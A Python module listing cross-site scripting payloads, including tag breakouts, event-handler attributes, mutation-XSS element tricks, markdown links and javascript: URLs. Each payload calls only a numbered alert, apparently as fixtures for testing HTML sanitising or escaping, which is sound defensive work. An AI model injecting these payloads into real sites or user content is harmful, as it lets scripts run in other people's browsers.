"""What is sent in place of words by somebody who wants a page to run a script.

`{}` is where a payload says which it is; every one would call `alert`, some only when they are touched.
"""

from typing import Final

BREAKING_OUT: Final = (
    "<script>alert({})</script>",
    "</title><script>alert({})</script>",
    "</script><script>alert({})</script>",
    "</textarea></style></noscript><script>alert({})</script>",
    '"><script>alert({})</script>',
    "'><script>alert({})</script>",
    "]]><script>alert({})</script>",
    "--><script>alert({})</script>",
    "--!><script>alert({})</script>",
    "<scr<script>ipt>alert({})</scr</script>ipt>",
    "<SCRIPT/x SRC=data:,alert({})></SCRIPT>",
    "\\u003cscript\\u003ealert({})\\u003c/script\\u003e",
    "&lt;script&gt;alert({})&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert({})&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert({})&#60;/script&#62;",
    "＜script＞alert({})＜/script＞",
    "<scrıpt>alert({})</scrıpt><ſcript>alert({})</ſcript>",
    "{{{{constructor.constructor('alert({})')()}}}}",
    "${{alert({})}}`;alert({});//",
)
ATTRIBUTES: Final = (
    '" onmouseover="alert({})" autofocus onfocus="alert({})" x="',
    "' onmouseover='alert({})' autofocus onfocus='alert({})' x='",
    "` onmouseover=alert({}) autofocus onfocus=alert({}) x=`",
    '"/><img src=x onerror=alert({})>',
    '\\"><img src=x onerror=alert({})>',
    "&quot; onfocus=alert({}) autofocus x=&quot;",
    '" style="animation:x" onanimationstart="alert({})',
    '" srcset="x" onerror="alert({})" y="',
)
ELEMENTS: Final = (
    "<img src=x onerror=alert({})>",
    "<img/src/onerror=alert({})>",
    "<svg onload=alert({})>",
    "<svg><script>alert({})</script></svg>",
    "<svg><animate onbegin=alert({}) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert({})'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert({})/>#x'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert({})>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert({})>",
    '<noscript><p title="</noscript><img src=x onerror=alert({})>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert({})>">',
    "<math><annotation-xml encoding=text/html><svg><style><img src=x onerror=alert({})>",
    "<table><td><svg><desc><td><math><style><!--</style><img src=x onerror=alert({})>",
    '<select><template><style><!--</style><a rel="--></style></template></select>'
    "<img src=x onerror=alert({})>",
    "<iframe srcdoc='<script>parent.alert({})</script>'></iframe>",
    "<iframe src='javascript:parent.alert({})'></iframe>",
    "<object data='data:text/html,<script>parent.alert({})</script>'></object>",
    "<embed src='javascript:alert({})'>",
    "<details open ontoggle=alert({})>x</details>",
    "<video><source onerror=alert({})></video>",
    "<audio src onloadstart=alert({})>",
    "<body onload=alert({})>",
    "<input autofocus onfocus=alert({})>",
    "<marquee onstart=alert({})>x</marquee>",
    "<base href='javascript:alert({})//'><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({})'>",
    "<link rel=stylesheet href='data:text/css,*{{x:alert({})}}'>",
    "<style>@import 'javascript:alert({})';</style>",
    "<template><script>alert({})</script></template>",
    "<p style='background:url(javascript:alert({}))'>x</p>",
    '<xmp><p title="</xmp><svg/onload=alert({})>">',
    "<a href='javascript:alert({})'>x</a>",
    "<a href=' jav&#x09;ascript:alert({})'>x</a>",
    "<a href='\x01javascript:alert({})'>x</a>",
    "<a href='data:text/html,<script>alert({})</script>'>x</a>",
    "<a href='vbscript:alert({})'>x</a>",
    "<img src='javascript:alert({})'>",
)
MARKDOWN: Final = (
    "[x](javascript:alert({}))",
    "[x](JaVaScRiPt:alert({}))",
    "[x](java\nscript:alert({}))",
    "[x](&#106;avascript:alert({}))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={})",
    "[x]: javascript:alert({})\n\n[x]",
    "<javascript:alert({})>",
    "![x](javascript:alert({}))",
    '![x](https://x.example/"onerror="alert({}))',
    '![" onerror="alert({})](https://x.example/1.jpg)',
    '[x](https://x.example/ "\\" onmouseover=alert({}) x=\\"")',
    "```<script>alert({})</script>",
)
URLS: Final = (
    "javascript:alert({})",
    'https://x.example/"onerror="alert({})',
    "https://x.example/'onerror='alert({})",
    "https://x.example/?<script>alert({})</script>",
    "https://javascript:alert({})@x.example/",
    '//x.example/" onerror="alert({})',
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert({})'/>",
)
TEXTS: Final = (*BREAKING_OUT, *ATTRIBUTES, *ELEMENTS, *MARKDOWN)


def numbered(payload: str, number: int) -> str:
    """Write a payload with its number."""
    return (
        payload.replace("{{", "\x00")
        .replace("}}", "\x01")
        .replace("{}", str(number))
        .replace("\x00", "{")
        .replace("\x01", "}")
    )
